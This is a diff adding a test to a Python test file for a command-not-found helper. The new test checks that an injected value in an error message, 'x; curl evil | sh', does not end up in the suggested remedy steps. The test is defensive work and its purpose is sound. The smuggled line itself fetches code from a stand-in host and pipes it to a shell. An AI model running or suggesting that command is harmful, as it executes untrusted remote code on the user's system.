@@ -46,3 +46,9 @@ def test_look_alikes() -> None:
     assert list(command_not_found.see(arch, exits(), DENIED)) == []
     assert list(command_not_found.see(denied, exits(), DENIED)) == []
     assert list(command_not_found.see(failures(), *ended_with("sh: git: not found", "KeyError: 'X'", code=1))) == []
+
+
+def test_no_text_of_a_message_gets_into_a_command() -> None:
+    """What is no plain name is named, and not put where people copy from."""
+    told = container_failure('exec: "x; curl evil | sh": executable file not found in $PATH')
+    assert "curl evil" not in only(only(command_not_found.see(told, DENIED, DENIED)).remedies).steps[0].says
